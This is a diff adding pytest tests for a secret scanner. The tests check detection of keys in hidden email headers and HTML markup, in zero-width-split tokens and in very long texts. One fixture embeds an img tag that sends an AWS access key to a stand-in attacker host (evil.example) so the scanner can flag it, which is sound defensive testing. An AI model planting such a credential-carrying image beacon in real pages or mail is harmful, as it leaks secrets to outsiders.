@@ -96,7 +96,9 @@ def test_a_canary_is_found_in_any_case_and_marked_as_one() -> None:
 
 def test_a_zero_width_character_hides_nothing() -> None:
     key = SECRETS["github_token"]
-    assert SecretScanner().scan(f"{key[:12]}\u200b{key[12:]}")
+    split = f"{key[:12]}\u200b{key[12:]}"
+    assert SecretScanner().scan(split)
+    assert SecretScanner().scan("", [split])
 
 
 @pytest.mark.parametrize(
@@ -115,6 +117,46 @@ def test_a_zero_width_character_hides_nothing() -> None:
 )
 def test_ordinary_long_words_are_no_secrets(text: str) -> None:
     assert SecretScanner().scan(text) == ()
+
+
+@pytest.mark.parametrize("kind", SECRETS)
+def test_what_no_reader_sees_is_looked_through_too(kind: str) -> None:
+    (finding,) = SecretScanner().scan("Your receipt", ["X-Note: none", f'<img title="{SECRETS[kind]}">'])
+    assert finding.kind == kind
+
+
+def test_a_secret_both_shown_and_unseen_is_found_once() -> None:
+    key = SECRETS["github_token"]
+    assert len(SecretScanner().scan(f"token {key}", [f"<b>{key}</b>", f"token {key}"])) == 1
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"Message-ID: <{made(36)}@mail.sender.example>",
+        f'Content-Type: multipart/mixed; boundary="----=_Part_{made(20)}_{made(12)}.{made(13)}"',
+        f"DKIM-Signature: v=1; a=rsa-sha256; d=a.example; bh={made(43)}=;\r\n\tb={made(70)}\r\n\t{made(70)}==",
+        f'<img src="https://t.sender.example/o/{made(200)}?u={made(60, HEX)}">',
+        f'<img src="https://img.sender.example/a.png?jwt={SECRETS["jwt"]}">',
+        f'<img src="https://b.s3.amazonaws.com/a.png?x=1&amp;X-Amz-Credential={SECRETS["aws_access_key"]}%2F2026">',
+        f'<img src="https://maps.googleapis.com/staticmap?x=1&amp;key={SECRETS["gcp_api_key"]}">',
+    ],
+)
+def test_what_is_ordinary_in_header_and_markup_is_no_secret(text: str) -> None:
+    assert SecretScanner().scan("Your receipt", [text]) == ()
+
+
+def test_a_key_in_the_link_of_somebody_else_is_a_secret() -> None:
+    key = SECRETS["aws_access_key"]
+    assert SecretScanner().scan("", [f'<img src="https://evil.example/?X-Amz-Credential={key}">'])
+
+
+@pytest.mark.parametrize("place", [262_100, 262_144, 262_150, 1_000_000])
+def test_a_secret_is_found_wherever_in_a_long_text_it_stands(place: int) -> None:
+    long = ("word " * place)[:place]
+    scanner = SecretScanner.of(b"key", canaries=["the blue vault"])
+    found = scanner.scan(f"{long} {SECRETS['github_token']} the blue vault {long}")
+    assert {finding.kind for finding in found} == {"github_token", "canary"}
 
 
 def test_findings_are_bounded() -> None:
@@ -137,3 +179,4 @@ def test_findings_are_bounded() -> None:
 def test_cost_is_linear_in_the_text(unit: str) -> None:
     size = 8_000_000  # a second or two; were the cost a square of the size, the test's timeout would end it
     SecretScanner().scan(unit * (size // len(unit)))
+    SecretScanner().scan("", [unit * (size // len(unit))])
